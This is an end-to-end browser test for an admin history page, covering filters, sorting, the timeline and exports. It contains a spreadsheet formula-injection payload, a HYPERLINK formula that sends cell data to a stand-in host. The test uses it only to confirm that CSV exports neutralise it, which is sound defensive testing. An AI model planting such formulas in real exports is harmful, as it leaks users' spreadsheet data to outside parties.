// History: filters that live in the address, the picture and its table, and exports that a spreadsheet cannot be tricked by.
import assert from "node:assert/strict";

const FORMULA = '=HYPERLINK("https://fabrikam.example/?"&A1,"see, here")';

export async function run(stage) {
  const { ready } = stage;
  const admin = await stage.admin();
  const { page } = admin;
  await stage.over();
  await stage.live();
  const odd = await stage.askedBy("lucia.ferrante@contoso.example", FORMULA);

  // A filter is in the address, stays with a reload, and finds what it says.
  await admin.open("/history");
  const rows = page.locator("main table tbody tr");
  const all = await rows.count();
  stage.check(all >= 3, `the history has rows: ${all}`);
  await page.getByLabel("State").selectOption("denied");
  await page.getByRole("button", { name: "Show" }).click();
  await page.waitForURL(/state=denied/);
  const denied = await rows.count();
  stage.check(denied >= 1 && denied < all, `${denied} of ${all} are denied`);
  await page.reload();
  stage.equal(await rows.count(), denied, "a reload keeps the filter");
  for (const text of await rows.allTextContents()) stage.check(/denied/i.test(text), `not denied: ${text}`);
  await page.goBack();
  stage.equal(await rows.count(), all, "back shows everything again");
  await admin.open("/history");
  await page.getByLabel("Person").fill("Lucia");
  await page.getByRole("button", { name: "Show" }).click();
  await page.waitForURL(/person=Lucia/);
  stage.equal(await rows.count(), 1, "the person's own");
  await page.getByLabel("Person").fill("Nobody at all");
  await page.getByRole("button", { name: "Show" }).click();
  await page.getByText("Nothing fits these filters").waitFor();
  const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
  await admin.open(`/history?from=${tomorrow}`);
  stage.check(await page.getByText("Nothing fits these filters").isVisible(), "nothing happened tomorrow");

  // The table sorts by its headers, with the keyboard too.
  await admin.open("/history");
  const head = page.locator("main table thead th").nth(1);
  await head.getByRole("button").focus();
  await page.keyboard.press("Enter");
  stage.equal(await head.getAttribute("aria-sort"), "ascending", "sorted by the keyboard");
  const names = await page.locator("main table tbody tr td:nth-of-type(1)").allTextContents();
  stage.equal(names, [...names].sort((a, b) => a.trim().localeCompare(b.trim(), "en", { numeric: true })), "in order");

  // The picture says what the table says: each bar is a link to what it stands for.
  await admin.open("/history/timeline");
  stage.check((await page.locator("svg.timeline a").count()) >= 1, "bars lead to their requests");
  const where = await page.locator("svg.timeline a").first().getAttribute("href");
  stage.check(/^\/requests\/[0-9a-f-]{36}$/.test(where), `a bar leads to ${where}`);
  stage.check(await page.locator("main table").isVisible(), "the same as a table");
  await page.emulateMedia({ media: "print" });
  stage.check(!(await page.locator("header").isVisible()) && (await page.locator("svg.timeline").isVisible()), "printed without the frame");
  await page.emulateMedia({ media: "screen" });

  // Exports.
  await admin.open("/history/export");
  const file = async (name) => {
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name, exact: true }).click()]);
    const stream = await download.createReadStream();
    const parts = [];
    for await (const part of stream) parts.push(part);
    return Buffer.concat(parts).toString("utf8");
  };
  const csv = await file("CSV");
  stage.check(csv.includes(odd.id), "the export has every request");
  stage.check(!/(^|,|")=HYPERLINK/m.test(csv), "no cell begins with a formula");
  const lines = (await file("NDJSON")).trim().split("\n").map((line) => JSON.parse(line));
  const found = lines.find((line) => JSON.stringify(line).includes(odd.id));
  assert.ok(found, "the lines have every request");
  stage.check(JSON.stringify(found).includes(JSON.stringify(FORMULA).slice(1, -1)), "what was written is in the lines as it was written");
  await stage.api("lucia.ferrante@contoso.example", `/v1/requests/${odd.id}/cancel`, {});
}
